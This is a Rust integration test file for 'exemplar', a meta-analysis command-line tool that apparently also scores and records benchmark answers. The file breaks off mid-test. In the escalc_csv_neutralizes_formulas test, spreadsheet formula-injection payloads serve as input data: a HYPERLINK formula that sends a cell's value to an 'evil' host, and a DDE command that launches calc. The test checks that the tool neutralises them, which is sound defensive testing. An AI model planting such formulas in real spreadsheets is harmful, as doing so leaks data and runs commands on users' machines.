//! The `exemplar` command as a user runs it: the built binary, its stdout, stderr and exit code.

use serde_json::{json, Value};
use std::io::Write;
use std::process::{Command, Output, Stdio};

fn run(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_exemplar"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary starts");
    let input = stdin.unwrap_or_default().to_vec();
    let mut pipe = child.stdin.take().unwrap();
    // The command may stop reading early (bounded input): ignore a broken pipe.
    let writer = std::thread::spawn(move || {
        let _ = pipe.write_all(&input);
    });
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap();
    output
}

fn stdout_json(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {}",
            String::from_utf8_lossy(&output.stdout)
        )
    })
}

fn code(output: &Output) -> i32 {
    output.status.code().expect("exited normally")
}

#[test]
fn reference_prints_the_reference_answer() {
    let out = run(&["reference"], None);
    assert_eq!(code(&out), 0);
    let answer = stdout_json(&out);
    assert_eq!(
        answer,
        serde_json::to_value(exemplar::protocol::reference_answer()).unwrap()
    );
    assert_eq!(answer["overall"]["k"], 19);
    assert_eq!(answer["exclude_s04"]["k"], 18);
    assert_eq!(answer["exclude_s04"]["excluded"], json!(["s04"]));
    assert_eq!(answer["bias"]["rule_outcome"], "inconclusive");
}

#[test]
fn tools_prints_the_definitions() {
    let out = run(&["tools"], None);
    assert_eq!(code(&out), 0);
    let tools = stdout_json(&out);
    assert_eq!(tools, exemplar::tools::definitions_json());
    let names: Vec<&str> = tools
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, exemplar::tools::names().collect::<Vec<_>>());
    // The list stays lean: each tool's output schema is offered on its own.
    for tool in tools.as_array().unwrap() {
        assert!(tool.get("outputSchema").is_none(), "{}", tool["name"]);
        let schema = exemplar::tools::output_schema(tool["name"].as_str().unwrap()).unwrap();
        assert_eq!(schema["type"], "object", "{}", tool["name"]);
        assert!(schema["properties"].is_object());
    }
}

#[test]
fn call_prints_the_result_and_exits_0() {
    let out = run(&["call", "fit_random_effects"], None);
    assert_eq!(code(&out), 0);
    let native = exemplar::tools::call("fit_random_effects", &json!({})).unwrap();
    assert_eq!(stdout_json(&out), native);

    let out = run(
        &["call", "refit_excluding", r#"{"exclude": ["s04"]}"#],
        None,
    );
    assert_eq!(code(&out), 0);
    assert_eq!(stdout_json(&out)["k"], 18);

    let out = run(&["call", "egger_test", "-"], Some(br#"{"variant": "rma"}"#));
    assert_eq!(code(&out), 0);
    assert_eq!(stdout_json(&out)["variant"], "rma");

    let out = run(&["call", "get_dataset", "-"], Some(b""));
    assert_eq!(code(&out), 0);
    assert_eq!(stdout_json(&out)["records"].as_array().unwrap().len(), 19);
}

#[test]
fn call_converts_reported_summaries() {
    // A symmetric five-number summary: the Luo et al. mean is the median; a 95% CI of an odds
    // ratio gives yi = ln(OR) and vi = ((ln ub - ln lb)/(2 z))^2.
    let args = r#"{"kind": "fivenum", "rows": [{"min": 10, "q1": 20, "median": 25, "q3": 30, "max": 40, "n": 50}]}"#;
    let out = run(&["call", "convert_summaries", args], None);
    assert_eq!(code(&out), 0);
    let result = stdout_json(&out);
    assert_eq!(result["rows"][0]["mean"], 25.0);
    assert_eq!(result["settings"]["method"], "luo/wan/shi");
    assert!(!result["assumptions"].as_array().unwrap().is_empty());

    let args = r#"{"kind": "wald", "transf": "log", "rows": [{"out": 2, "ci.lb": 1, "ci.ub": 4}]}"#;
    let out = run(&["call", "convert_summaries", "-"], Some(args.as_bytes()));
    assert_eq!(code(&out), 0);
    let row = &stdout_json(&out)["rows"][0];
    let z = 1.959_963_984_540_054;
    assert!((row["yi"].as_f64().unwrap() - 2f64.ln()).abs() < 1e-15);
    assert!((row["vi"].as_f64().unwrap() - (4f64.ln() / (2.0 * z)).powi(2)).abs() < 1e-15);
}

#[test]
fn a_tool_error_is_json_on_stdout_with_exit_1() {
    let out = run(
        &["call", "refit_excluding", r#"{"exclude": ["s99"]}"#],
        None,
    );
    assert_eq!(code(&out), 1);
    let error = stdout_json(&out);
    assert_eq!(error["error"]["code"], "unknown_record");
    assert!(error["error"]["message"].as_str().unwrap().contains("s99"));

    let out = run(&["call", "no_such_tool"], None);
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "unknown_tool");

    let out = run(
        &["call", "fit_random_effects", "-"],
        Some(br#"{"level": "high"}"#),
    );
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "wrong_type");
}

#[test]
fn usage_errors_go_to_stderr_with_exit_2() {
    // Malformed JSON arguments are a tool error, as on the page: see
    // malformed_call_arguments_are_the_pages_error_json_with_exit_1.
    let out = run(&["call"], None);
    assert_eq!(code(&out), 2);
    let out = run(&["frobnicate"], None);
    assert_eq!(code(&out), 2);
    let out = run(&[], None);
    assert_eq!(code(&out), 2);

    let out = run(&["score", "/nonexistent/answer.json"], None);
    assert_eq!(code(&out), 2);
    assert!(out.stdout.is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read /nonexistent/answer.json"));
}

#[test]
fn score_reads_a_file_or_stdin() {
    let reference = serde_json::to_string_pretty(&exemplar::protocol::reference_answer()).unwrap();
    let dir = std::env::temp_dir().join(format!("exemplar-cli-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("answer.json");
    std::fs::write(&file, &reference).unwrap();
    let out = run(&["score", file.to_str().unwrap()], None);
    std::fs::remove_dir_all(&dir).unwrap();
    assert_eq!(code(&out), 0);
    let report = stdout_json(&out);
    assert_eq!(
        (report["parsed"].clone(), report["passed"].clone()),
        (json!(true), json!(13))
    );
    assert_eq!(report["total"], 13);
    assert_eq!(report["fields"].as_array().unwrap().len(), 13);

    for args in [&["score", "-"][..], &["score"][..]] {
        let out = run(args, Some(reference.as_bytes()));
        assert_eq!(code(&out), 0);
        assert_eq!(stdout_json(&out)["passed"], 13);
    }
}

#[test]
fn a_parse_failure_is_reported_with_exit_0() {
    let out = run(&["score", "-"], Some(b"```json\n{}\n```"));
    assert_eq!(code(&out), 0);
    let report = stdout_json(&out);
    assert_eq!(report["parsed"], false);
    assert_eq!(report["passed"], Value::Null);
    assert!(report["parse_error"]
        .as_str()
        .unwrap()
        .contains("code fence"));
}

#[test]
fn oversized_input_is_bounded() {
    let huge = vec![b' '; 8 * 1024 * 1024];
    let out = run(&["score", "-"], Some(&huge));
    assert_eq!(code(&out), 0);
    let report = stdout_json(&out);
    assert_eq!(report["parsed"], false);
    assert!(report["parse_error"].as_str().unwrap().contains("64 KiB"));
}

/// A fresh folder under the target directory for one test's run records.
fn temp_dir(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("exemplar-cli-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn record_then_check_then_summarise() {
    let dir = temp_dir("runs");
    let runs = dir.join("runs");
    let runs = runs.to_str().unwrap();
    let reference = run(&["reference"], None).stdout;
    let record = |condition: &str, order: &str, answer: &[u8]| {
        run(
            &[
                "record",
                "--condition",
                condition,
                "--pair",
                "p1",
                "--order",
                order,
                "--model",
                "model-x",
                "--date",
                "2026-11-30",
                "--dir",
                runs,
                "-",
            ],
            Some(answer),
        )
    };
    let out = record("pdf", "first", b"not json");
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(stdout_json(&out)["parsed"], false);
    let out = record("webmcp", "second", &reference);
    assert_eq!(stdout_json(&out)["passed"], 13);
    let written: Value =
        serde_json::from_slice(&std::fs::read(dir.join("runs/p1-webmcp.json")).unwrap()).unwrap();
    assert_eq!(written["condition"], "webmcp");
    assert_eq!(
        written["answer"],
        String::from_utf8(reference.clone()).unwrap()
    );

    // Recording the same pair and condition again is refused without --force.
    let again = record("pdf", "first", b"{}");
    assert_eq!(code(&again), 2);
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));

    let check = run(&["runs", "check", "--dir", runs], None);
    assert_eq!(
        code(&check),
        0,
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    let summary = stdout_json(&run(&["runs", "summary", "--dir", runs], None));
    assert_eq!(summary["total_runs"], 2);
    assert_eq!(summary["conditions"][0]["parse_failures"], 1);
    assert_eq!(summary["conditions"][1]["fully_correct"], 1);
    assert_eq!(summary["paired"]["complete_pairs"], 1);

    // An edited score is caught, and the summary refuses to run on a bad set.
    let path = dir.join("runs/p1-webmcp.json");
    let mut edited = written.clone();
    edited["score"]["passed"] = json!(12);
    std::fs::write(&path, edited.to_string()).unwrap();
    let check = run(&["runs", "check", "--dir", runs], None);
    assert_eq!(code(&check), 1);
    assert!(
        String::from_utf8_lossy(&check.stderr).contains("p1-webmcp.json: the stored score differs")
    );
    assert_eq!(code(&run(&["runs", "summary", "--dir", runs], None)), 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn no_runs_summarise_as_no_runs_recorded() {
    let dir = temp_dir("empty");
    let summary = stdout_json(&run(
        &["runs", "summary", "--dir", dir.to_str().unwrap()],
        None,
    ));
    assert_eq!(summary["empty_message"], "No runs recorded.");
    assert_eq!(summary["total_runs"], 0);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn record_refuses_bad_inputs_with_exit_2() {
    let dir = temp_dir("bad");
    let runs = dir.join("runs");
    let runs = runs.to_str().unwrap();
    let out = run(
        &[
            "record",
            "--condition",
            "pdf",
            "--pair",
            "p 1",
            "--order",
            "first",
            "--model",
            "m",
            "--dir",
            runs,
            "-",
        ],
        Some(b"{}"),
    );
    assert_eq!(code(&out), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("pair id"));
    let out = run(
        &[
            "record",
            "--condition",
            "paper",
            "--pair",
            "p1",
            "--order",
            "first",
            "--model",
            "m",
            "--dir",
            runs,
            "-",
        ],
        Some(b"{}"),
    );
    assert_eq!(code(&out), 2);
    assert!(
        !dir.join("runs").exists(),
        "nothing is written on a refused record"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn plot_prints_svg_and_reports_tool_errors() {
    let out = run(&["plot", "forest", r#"{"exclude":["s04"]}"#], None);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let svg = String::from_utf8(out.stdout).unwrap();
    assert!(
        svg.starts_with("<svg") && svg.trim_end().ends_with("</svg>"),
        "{}",
        &svg[..80]
    );
    assert!(svg.contains("(excluded)"));
    let out = run(&["plot", "funnel", "-"], Some(b"{}"));
    assert_eq!(code(&out), 0);
    assert!(String::from_utf8(out.stdout).unwrap().contains("Egger"));
    let out = run(&["plot", "funnel", r#"{"exclude":["nope"]}"#], None);
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "unknown_record");
    assert_eq!(code(&run(&["plot", "pie"], None)), 2);
}

/// The (width, height) of a plot's SVG, from its viewBox, in CSS pixels (1/96 inch).
fn svg_size(svg: &str) -> (f64, f64) {
    let view_box = svg
        .split("viewBox=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    let numbers: Vec<f64> = view_box.split(' ').map(|n| n.parse().unwrap()).collect();
    (numbers[2], numbers[3])
}

/// Issue 45 item 3: a plot as a paper takes it, PNG at a resolution (300 dpi by default) and
/// PDF with its font embedded, the library's bytes exactly.
#[test]
fn plot_writes_a_png_or_a_pdf_for_a_paper() {
    let svg = String::from_utf8(run(&["plot", "forest", "{}"], None).stdout).unwrap();
    let svg = svg.trim_end();
    let (width, height) = svg_size(svg);

    let dir = temp_dir("figures");
    let file = dir.join("forest.png");
    let file = file.to_str().unwrap();
    let out = run(
        &["plot", "forest", "{}", "--format", "png", "--out", file],
        None,
    );
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.stdout.is_empty());
    let png = std::fs::read(file).unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"));
    // IHDR: the width and height, ⌈inches × 300⌉.
    let be = |at: usize| u32::from_be_bytes(png[at..at + 4].try_into().unwrap());
    assert_eq!(
        (f64::from(be(16)), f64::from(be(20))),
        (
            (width * 300.0 / 96.0).ceil(),
            (height * 300.0 / 96.0).ceil()
        )
    );
    // pHYs says 300 dpi: 11,811 pixels a metre.
    let phys = png.windows(4).position(|w| w == b"pHYs").unwrap();
    assert_eq!(
        (be(phys + 4), be(phys + 8), png[phys + 12]),
        (11811, 11811, 1)
    );
    assert_eq!(
        png,
        exemplar_figures::render(svg, exemplar_figures::Format::PNG).unwrap()
    );

    let out = run(&["plot", "forest", "-", "--format", "pdf"], Some(b"{}"));
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let pdf = out.stdout;
    assert!(pdf.starts_with(b"%PDF-"));
    let text = String::from_utf8_lossy(&pdf);
    assert!(text.contains("/FontFile2") && text.contains("+LiberationSans"));
    let points = |px: f64| px * 0.75;
    assert!(
        text.contains(&format!(
            "/MediaBox [0 0 {} {}]",
            points(width),
            points(height)
        )),
        "{}",
        &text[..800]
    );
    assert_eq!(
        pdf,
        exemplar_figures::render(svg, exemplar_figures::Format::Pdf).unwrap()
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn plot_refuses_a_resolution_it_cannot_use() {
    // --dpi is a PNG's; 0 and over the limit are usage errors, before the tool runs.
    for args in [
        &["--dpi", "150"][..],
        &["--format", "pdf", "--dpi", "150"],
        &["--format", "png", "--dpi", "0"],
        &["--format", "png", "--dpi", "2401"],
    ] {
        let mut all = vec!["plot", "forest"];
        all.extend_from_slice(args);
        let out = run(&all, None);
        assert_eq!(code(&out), 2, "{args:?}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    // 2,400 dpi of a forest is over the pixel limit: said, exit 1, nothing written.
    let out = run(
        &["plot", "forest", "--format", "png", "--dpi", "2400"],
        None,
    );
    assert_eq!(code(&out), 1);
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("cannot render the figure") && stderr.contains("pixels"),
        "{stderr}"
    );
    // A tool error stays the tool's error JSON, whatever the format.
    let out = run(
        &[
            "plot",
            "funnel",
            r#"{"exclude":["nope"]}"#,
            "--format",
            "pdf",
        ],
        None,
    );
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "unknown_record");
}

/// Runs the command with no stdin and kills it after `seconds`: a hang fails the test
/// instead of hanging it.
fn run_bounded(args: &[&str], seconds: u64) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_exemplar"))
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary starts");
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > std::time::Duration::from_secs(seconds) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("exemplar {} hung for {seconds} s", args.join(" "));
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn record_args<'a>(runs: &'a str, pair: &'a str, extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec![
        "record",
        "--condition",
        "pdf",
        "--pair",
        pair,
        "--order",
        "first",
        "--model",
        "model-x",
        "--date",
        "2026-11-30",
        "--dir",
        runs,
    ];
    args.extend_from_slice(extra);
    args.push("-");
    args
}

#[test]
fn malformed_call_arguments_are_the_pages_error_json_with_exit_1() {
    for args in ["{bad", r#"{"level": 1e999}"#] {
        let out = run(&["call", "fit_random_effects", args], None);
        assert_eq!(code(&out), 1, "{}", String::from_utf8_lossy(&out.stderr));
        // Exactly what the page receives for the same text.
        assert_eq!(
            stdout_json(&out),
            exemplar::tools::call_json("fit_random_effects", args)
        );
        assert_eq!(stdout_json(&out)["error"]["code"], "invalid_json");
    }
    let out = run(&["call", "egger_test", "-"], Some(b"{variant: rma}"));
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "invalid_json");
    let out = run(&["plot", "forest", "{"], None);
    assert_eq!(code(&out), 1);
    assert_eq!(stdout_json(&out)["error"]["code"], "invalid_json");
}

#[test]
fn record_refuses_an_impossible_date() {
    let dir = temp_dir("bad-date");
    let runs = dir.join("runs");
    let runs = runs.to_str().unwrap();
    for date in ["2026-02-31", "2025-02-29", "2026-04-31", "2026-13-01"] {
        let mut args = record_args(runs, "p1", &[]);
        let at = args.iter().position(|a| *a == "2026-11-30").unwrap();
        args[at] = date;
        let out = run(&args, Some(b"{}"));
        assert_eq!(code(&out), 2, "{date} was accepted");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(date),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert!(!dir.join("runs").exists());
    let mut args = record_args(runs, "p1", &[]);
    let at = args.iter().position(|a| *a == "2026-11-30").unwrap();
    args[at] = "2028-02-29";
    assert_eq!(code(&run(&args, Some(b"{}"))), 0, "a leap day is a date");
    let _ = std::fs::remove_dir_all(&dir);
}

#[cfg(unix)]
#[test]
fn record_never_writes_through_a_symlink() {
    use std::os::unix::fs::symlink;
    let dir = temp_dir("symlink-record");
    let runs = dir.join("runs");
    std::fs::create_dir_all(&runs).unwrap();
    let runs_str = runs.to_str().unwrap();

    // A dangling symlink: its target outside runs/ is not created.
    let outside = dir.join("outside.json");
    symlink(&outside, runs.join("p02-pdf.json")).unwrap();
    let out = run(&record_args(runs_str, "p02", &[]), Some(b"{}"));
    assert_eq!(code(&out), 2);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("symbolic link"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!outside.exists(), "the symlink's target was created");
    let out = run(&record_args(runs_str, "p02", &["--force"]), Some(b"{}"));
    assert_eq!(code(&out), 2);
    assert!(!outside.exists(), "the symlink's target was created");

    // --force does not overwrite a file elsewhere through a symlink.
    let precious = dir.join("precious.txt");
    std::fs::write(&precious, "keep me").unwrap();
    symlink(&precious, runs.join("p03-pdf.json")).unwrap();
    let out = run(&record_args(runs_str, "p03", &["--force"]), Some(b"{}"));
    assert_eq!(code(&out), 2);
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
    assert!(std::fs::symlink_metadata(runs.join("p03-pdf.json"))
        .unwrap()
        .file_type()
        .is_symlink());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn record_with_force_replaces_the_record_and_leaves_no_temporary_file() {
    let dir = temp_dir("force");
    let runs = dir.join("runs");
    let runs_str = runs.to_str().unwrap();
    assert_eq!(
        code(&run(&record_args(runs_str, "p1", &[]), Some(b"{}"))),
        0
    );
    let reference = run(&["reference"], None).stdout;
    let out = run(&record_args(runs_str, "p1", &["--force"]), Some(&reference));
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let written: Value =
        serde_json::from_slice(&std::fs::read(runs.join("p1-pdf.json")).unwrap()).unwrap();
    assert_eq!(written["score"]["passed"], 13);
    let names: Vec<_> = std::fs::read_dir(&runs)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["p1-pdf.json"]);
    let _ = std::fs::remove_dir_all(&dir);
}

/// A folder with one good pair (p1) for the `runs check` tests to spoil.
fn good_pair(name: &str) -> std::path::PathBuf {
    let dir = temp_dir(name);
    let runs = dir.join("runs");
    let runs_str = runs.to_str().unwrap();
    let out = run(&record_args(runs_str, "p1", &[]), Some(b"{}"));
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let mut args = record_args(runs_str, "p1", &[]);
    args[2] = "webmcp";
    args[6] = "second";
    assert_eq!(code(&run(&args, Some(b"{}"))), 0);
    // A broken record after every odd file in name order, to show the check goes on.
    std::fs::write(runs.join("zz-broken.json"), "{").unwrap();
    runs
}

/// `runs check` on the folder: exit 1, stderr naming every bad file, and the broken record
/// after them still reported.
fn check_reports(runs: &std::path::Path, expected: &[&str]) {
    let out = run_bounded(&["runs", "check", "--dir", runs.to_str().unwrap()], 20);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(code(&out), 1, "{stderr}");
    for e in expected {
        assert!(stderr.contains(e), "missing {e:?} in:\n{stderr}");
    }
    assert!(
        stderr.contains("zz-broken.json: not a valid run record"),
        "{stderr}"
    );
    assert!(!stderr.contains("p1-pdf.json"), "{stderr}");
    let out = run_bounded(&["runs", "summary", "--dir", runs.to_str().unwrap()], 20);
    assert_eq!(code(&out), 1);
}

#[cfg(unix)]
#[test]
fn runs_check_never_opens_a_fifo() {
    let runs = good_pair("fifo");
    let fifo = runs.join("a-fifo.json");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    check_reports(&runs, &["a-fifo.json: not a regular file"]);
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[cfg(unix)]
#[test]
fn runs_check_refuses_symlinks_and_goes_on() {
    use std::os::unix::fs::symlink;
    let runs = good_pair("symlinks");
    // A record outside the folder, valid in itself, reached through a symlink.
    let outside = runs.parent().unwrap().join("elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::copy(runs.join("p1-pdf.json"), outside.join("p1-pdf.json")).unwrap();
    std::fs::rename(runs.join("p1-pdf.json"), outside.join("moved.json")).unwrap();
    symlink(outside.join("moved.json"), runs.join("p1-pdf.json")).unwrap();
    symlink(runs.join("nowhere"), runs.join("dangling.json")).unwrap();
    let out = run_bounded(&["runs", "check", "--dir", runs.to_str().unwrap()], 20);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(code(&out), 1, "{stderr}");
    for e in [
        "p1-pdf.json: a symbolic link",
        "dangling.json: a symbolic link",
        "zz-broken.json: not a valid run record",
    ] {
        assert!(stderr.contains(e), "missing {e:?} in:\n{stderr}");
    }
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[test]
fn runs_check_reports_a_directory_and_goes_on() {
    let runs = good_pair("directory");
    std::fs::create_dir_all(runs.join("a-folder.json")).unwrap();
    check_reports(&runs, &["a-folder.json: not a regular file"]);
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[test]
fn runs_check_reports_non_utf8_text_and_goes_on() {
    let runs = good_pair("non-utf8");
    std::fs::write(runs.join("latin1.json"), b"{\"model\": \"caf\xe9\"}").unwrap();
    check_reports(&runs, &["latin1.json: not UTF-8 text"]);
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[test]
fn runs_check_says_too_large_plainly() {
    let runs = good_pair("too-large");
    let mut big = b"{\"answer\": \"".to_vec();
    big.resize(1024 * 1024 + 10, b'x');
    big.extend_from_slice(b"\"}");
    std::fs::write(runs.join("big.json"), &big).unwrap();
    check_reports(&runs, &["big.json: too large"]);
    let out = run_bounded(&["runs", "check", "--dir", runs.to_str().unwrap()], 20);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let line = stderr.lines().find(|l| l.contains("big.json")).unwrap();
    assert!(!line.contains("column"), "{line}");
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[test]
fn runs_check_wants_the_file_named_for_its_run_id() {
    let runs = good_pair("renamed");
    std::fs::remove_file(runs.join("zz-broken.json")).unwrap();
    std::fs::rename(runs.join("p1-webmcp.json"), runs.join("renamed.json")).unwrap();
    let out = run(&["runs", "check", "--dir", runs.to_str().unwrap()], None);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(code(&out), 1, "{stderr}");
    assert!(
        stderr.contains("renamed.json: the file name must be \"p1-webmcp.json\""),
        "{stderr}"
    );
    let _ = std::fs::remove_dir_all(runs.parent().unwrap());
}

#[test]
fn escalc_turns_a_csv_into_records_and_call_reads_them() {
    let dir = temp_dir("escalc");
    let csv = dir.join("smd.csv");
    std::fs::write(
        &csv,
        "\u{feff}id;m1i;sd1i;n1i;m2i;sd2i;n2i;dose\r\ns1;10,2;2,1;20;9,1;2,4;22;5\r\ns2;3,1;1;12;3,9;1,5;12;10\r\ns3;12;4;12;14,5;3,5;15;20\r\n",
    )
    .unwrap();
    let csv = csv.to_str().unwrap();
    let out = run(&["escalc", "--measure", "SMD", csv], None);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let result = stdout_json(&out);
    assert_eq!(
        (result["measure"].as_str(), result["k"].as_u64()),
        (Some("SMD"), Some(3))
    );
    // metafor 3.8-1 escalc("SMD", ...) of the first row (tests/fixtures/escalc.json).
    let yi = result["records"][0]["yi"].as_f64().unwrap();
    assert!((yi - 0.47701210405237254).abs() < 1e-12, "{yi}");
    assert_eq!(result["records"][0]["dose"], 5);

    let out = run(&["escalc", "--measure", "SMD", "--csv", csv], None);
    assert_eq!(code(&out), 0);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("id,yi,vi,measure,m1i,sd1i,n1i,m2i,sd2i,n2i,dose\ns1,0.477"),
        "{text}"
    );

    // The JSON it printed, the CSV it printed and the raw CSV all feed a fit.
    let json_file = dir.join("es.json");
    std::fs::write(&json_file, serde_json::to_string(&result).unwrap()).unwrap();
    let records_csv = dir.join("records.csv");
    std::fs::write(&records_csv, &text).unwrap();
    let fits: Vec<Value> = [
        vec![json_file.to_str().unwrap()],
        vec![records_csv.to_str().unwrap()],
        vec![csv, "--measure", "SMD"],
    ]
    .iter()
    .map(|extra| {
        let mut args = vec![
            "call",
            "fit_random_effects",
            "{\"method\": \"DL\"}",
            "--records",
        ];
        args.extend(extra);
        let out = run(&args, None);
        assert_eq!(
            code(&out),
            0,
            "{extra:?}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        stdout_json(&out)
    })
    .collect();
    assert_eq!(fits[0]["k"], 3);
    assert_eq!(fits[0]["estimate"], fits[1]["estimate"]);
    assert_eq!(fits[0]["estimate"], fits[2]["estimate"]);
}

/// Issue 25, item 1: `escalc --csv` neutralises every text cell a spreadsheet would run as a
/// formula (ids, text columns, column names); numbers, negative ones too, stay as they are.
#[test]
fn escalc_csv_neutralizes_formulas() {
    let out = run(
        &["escalc", "--measure", "MD", "--csv", "-"],
        Some(
            "id,m1i,sd1i,n1i,m2i,sd2i,n2i,note,=cmd\n\
\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",1,1,10,2,1,10,\"+cmd|' /C calc'!A0\",x\n\
@SUM(A1:A9),2,1,10,1,1,10,\t-y,-3\n\
-1,3,1,10,3,1,10,plain,z\n"
                .as_bytes(),
        ),
    );
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].ends_with(",note,\"'=cmd\""), "{text}");
    assert!(
        lines[1].starts_with("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",-1"),
        "{text}"
    );
    assert!(lines[1].ends_with(",\"'+cmd|' /C calc'!A0\",x"), "{text}");
    assert!(lines[2].starts_with("\"'@SUM(A1:A9)\",1"), "{text}");
    // The CSV reader trims fields, so the tab of "\t-y" is gone; its quote stays in front.
    assert!(lines[2].ends_with(",\"'-y\",-3"), "{text}");
    // A text id that is a plain number is not prefixed (docs/RELIABILITY.md).
    assert!(lines[3].starts_with("-1,0"), "{text}");
    assert_eq!(lines.len(), 4, "{text}");
}

/// Issue 25, item 10, through the command: an input too large is reported with its real size
/// and the limit; a lone surrogate and SDs that underflow are named as what they are.
#[test]
fn messages_say_what_is_actually_wrong() {
    // 70,000,000 bytes on stdin were reported as "67108864 bytes" (what had been read).
    let mut big = b"{\"records\": [".to_vec();
    big.resize(70_000_000, b' ');
    let out = run(&["call", "fit_random_effects", "-"], Some(&big));
    assert_eq!(code(&out), 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        stderr.trim_end(),
        "exemplar: the arguments on stdin: 70000000 bytes; at most 16777216 bytes (16 MiB) \
are accepted"
    );
    let dir = temp_dir("too-large-input");
    let csv = dir.join("big.csv");
    let mut text = b"yi,vi\n".to_vec();
    text.resize(16 * 1024 * 1024 + 5, b'\n');
    std::fs::write(&csv, &text).unwrap();
    let csv = csv.to_str().unwrap();
    for args in [
        vec!["escalc", "--measure", "MD", csv],
        vec!["call", "fit_random_effects", "{}", "--records", csv],
    ] {
        let out = run(&args, None);
        assert_eq!(code(&out), 2, "{args:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(&format!(
                "{csv}: 16777221 bytes; at most 16777216 bytes (16 MiB) are accepted"
            )),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    let message = |args: &[&str]| {
        let out = run(args, None);
        assert_eq!(code(&out), 1, "{args:?}");
        stdout_json(&out)["error"]["message"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let m = message(&["call", "fit_random_effects", r#"{"method":"\uD800"}"#]);
    assert!(
        m.starts_with("the arguments are not valid JSON: lone surrogate \\uD800 ("),
        "{m}"
    );
    assert!(m.ends_with(" at line 1 column 12"), "{m}");
    let m = message(&[
        "call",
        "compute_effect_sizes",
        r#"{"measure": "SMD", "data": [{"m1i": 1, "sd1i": 5e-324, "n1i": 10, "m2i": 0, "sd2i": 5e-324, "n2i": 10}]}"#,
    ]);
    assert!(!m.contains("are both 0"), "{m}");
    assert!(
        m.contains("underflows to 0 in double precision with sd1i = 5e-324, sd2i = 5e-324"),
        "{m}"
    );
}

#[test]
fn escalc_reports_bad_rows_and_bad_files() {
    let dir = temp_dir("escalc-bad");
    let csv = dir.join("bad.csv");
